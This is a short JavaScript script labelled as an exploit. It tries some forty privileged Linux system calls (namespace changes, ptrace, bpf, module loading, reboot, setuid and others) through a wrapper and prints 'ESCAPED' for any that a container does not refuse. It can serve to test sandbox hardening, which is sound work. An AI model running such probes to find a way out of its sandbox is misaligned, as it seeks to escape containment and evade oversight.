// exploit: makes by hand the system calls that lead out of a container
// outcome: finished
const { syscall } = require('./system-call.cjs')
const calls = {
  unshare: [[0x10000000], [0x20000], [0x40000000]], setns: [[0, 0]], mount: [['none', '/tmp', 'tmpfs', 0, 0]], pivot_root: [['/tmp', '/tmp']], chroot: [['/tmp']], fsopen: [['tmpfs', 0]],
  ptrace: [[0, 0, 0, 0], [16, 1, 0, 0]], process_vm_readv: [[1, 0, 0, 0, 0, 0]], kcmp: [[1, 1, 0, 0, 0]], pidfd_open: [[1, 0]], bpf: [[0, 0, 0]], perf_event_open: [[0, 0, -1, -1, 0]],
  userfaultfd: [[0]], keyctl: [[0, -3, 0]], add_key: [['user', 'a', 'b', 1, -3]], io_uring_setup: [[1, 0]], memfd_create: [['a', 0]], open_by_handle_at: [[-1, 0, 0]], name_to_handle_at: [[-1, '/', 0, 0, 0]],
  kexec_load: [[0, 0, 0, 0]], init_module: [[0, 0, '']], swapon: [['/tmp/a', 0]], reboot: [[0xfee1dead, 672274793, 0x1234567]], settimeofday: [[0, 0]], setuid: [[0]], personality: [[0x40000]],
  syslog: [[3, 0, 0]], quotactl: [[0x80000100, 0, 0, 0]], shmget: [[0, 4096, 0o1666]], msgget: [[0, 0o1666]], prlimit64: [[1, 7, 0, 0]], iopl: [[3]], modify_ldt: [[0, 0, 0]], vmsplice: [[1, 0, 0, 0]],
  clone3: [[0, 0]], landlock_create_ruleset: [[0, 0, 1]],
  clone: [[0x10000011], [0x20011], [0x40000011], [0x20000011], [0x2000011]],
}
for (const [call, tries] of Object.entries(calls)) {
  for (const values of tries) {
    const answer = syscall(call, ...values)
    if (!['EPERM', 'ENOSYS', 'no such call here'].includes(answer)) console.log('ESCAPED', call, answer)
  }
}
if (syscall('getpid') === 'ENOSYS') console.log('ESCAPED: the probe does not work')
